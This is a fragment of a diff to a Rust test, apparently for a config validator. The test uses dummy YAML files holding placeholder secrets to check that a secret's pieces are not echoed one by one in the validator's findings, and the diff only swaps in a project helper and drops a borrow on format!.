 fn pieces_of_a_secret_are_not_quoted_one_by_one() {
     // A hash value cut to 40 characters in a message about another attribute (through an
     // alias), and a passphrase whose words a scope check quotes one finding at a time.
-    let dir = tempfile::tempdir().unwrap();
+    let dir = Project::new();
     let d = dir.path();
     let hash = "Zq7vQw3Rt8Lm2Xk9Bn4Hs6JdPf5Gc1Vy0Ua8Ek3Mw7Ti";
     let words = ["correct", "horse", "battery", "staple", "quick", "brown"];
     write(
         d,
         "web.trusted-app.yaml",
-        &format!(
+        format!(
             "ApplicationUri: com.example/web\nApplicationSecretHash: &h {hash}\nAppType: *h\nClientType: Public\nImpersonateAsInternalUserAllowed: true\nImpersonateLoginUrl: https://web.example.com/cb\nScope: read\n"
         ),
     );
@@ -1572,7 +1487,7 @@ fn pieces_of_a_secret_are_not_quoted_one_by_one() {
     write(
         d,
         "spa/auth.yaml",
-        &format!(
+        format!(
             "oidc:\n  authority: https://acme.my.erp.net/id\n  client_id: com.example/web\n  client_secret: &s \"{}\"\n  scope: *s\n",
             words.join(" ")
         ),
